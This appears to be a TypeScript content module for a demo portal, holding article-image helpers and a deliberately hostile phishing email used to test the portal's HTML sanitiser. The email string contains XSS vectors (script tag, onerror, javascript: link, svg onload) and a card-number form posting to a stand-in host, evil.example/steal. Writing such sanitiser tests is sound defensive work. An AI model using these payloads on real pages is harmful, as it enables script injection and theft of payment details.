import { illustrationSvg, slugify } from './illustrations';

// The pictures and the hostile mail inside the demo's articles: the content's seed and the translations of its
// articles (content-translations.ts) both write them.

/** The hostile article's marker: a test checks that nothing in the article ever sets it. */
export const HOSTILE_FLAG = '__hostileArticleRan';
export const HOSTILE_ARTICLE_SLUG = 'phishing-alert-fake-payment-emails';

/** A picture inside an article's HTML, inline (the HTML names no host), drawn like every other demo picture. */
export const inlinePicture = (slug: string) =>
  `data:image/svg+xml,${encodeURIComponent(illustrationSvg('news', slug) ?? '')}`;

/** `label` names the picture; `caption` is its text in the article's language (English by default). */
export const articleImage = (label: string, caption = label) =>
  `<figure><img src="${inlinePicture(slugify(label))}" alt="${caption}" width="640" height="360"><figcaption>${caption}</figcaption></figure>`;

/**
 * A forwarded phishing mail pasted as it came: the markup is hostile on purpose, and the portal's sanitiser must
 * strip every active part of it (tests check the flag never gets set). Quoted as received in every language.
 */
export const PHISHING_MAIL = `<blockquote>
<script>window.${HOSTILE_FLAG} = true; alert('hacked');</script>
<img src="x" onerror="window.${HOSTILE_FLAG} = true" alt="Your invoice">
<p>Dear student, your account is on hold. <a href="javascript:window.${HOSTILE_FLAG}=true">Verify your account</a> within 24 hours.</p>
<iframe src="https://evil.example/pay"></iframe>
<form action="https://evil.example/steal"><input name="card" placeholder="Card number"><button>Pay now</button></form>
<p style="position:fixed;inset:0;background:red" onclick="window.${HOSTILE_FLAG} = true">Click anywhere to continue</p>
<svg onload="window.${HOSTILE_FLAG} = true"><circle r="4"></circle></svg>
</blockquote>`;
